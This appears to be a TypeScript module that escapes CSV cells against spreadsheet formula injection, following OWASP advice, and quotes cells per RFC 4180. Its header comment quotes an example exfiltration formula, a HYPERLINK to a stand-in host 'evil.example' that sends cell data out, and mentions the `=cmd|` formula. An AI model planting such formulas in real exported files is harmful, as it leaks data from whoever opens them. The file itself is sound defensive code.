/**
 * Writing CSV: the one place every CSV the project writes gets its cells from.
 *
 * A CSV file is opened in a spreadsheet, and a spreadsheet runs a cell that starts with `=`, `+`,
 * `-` or `@` as a formula (a name like `=HYPERLINK("https://evil.example/?"&A1)` sends data away;
 * `=cmd|...` used to start programs). Tab and CR at the start are read as such a start by some of
 * them too. OWASP's advice (CSV injection): put a single quote before such a cell, so it is text.
 * A plain number (`+31612345678`, `-5`, `+1.5`) is no formula and is left as it is: a phone number
 * in E.164 stays a phone number.
 */

/** Put first in a file, so spreadsheets read it as UTF-8 (Excel shows "MÃ¼ller" without it). */
export const CSV_BOM = '\uFEFF';

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

/** A cell's text, with a leading `'` when a spreadsheet would otherwise read it as a formula. */
export function neutraliseCell(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

function text(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'object') return JSON.stringify(value);
  return String(value);
}

/** Quotes a cell when it holds the separator, a quote or a line break (RFC 4180); nothing else. */
export function quoteCell(value: unknown, separator = ','): string {
  const t = text(value);
  return t.includes(separator) || /[",;\r\n]/.test(t) ? `"${t.replace(/"/g, '""')}"` : t;
}

/** One cell of a CSV file a person may open: neutralised (see above), then quoted as needed. */
export function csvCell(value: unknown, separator = ','): string {
  return quoteCell(neutraliseCell(text(value)), separator);
}

/** One line of a CSV file a person may open, ending in CRLF (RFC 4180). */
export function csvLine(values: readonly unknown[], separator = ','): string {
  return `${values.map((v) => csvCell(v, separator)).join(separator)}\r\n`;
}
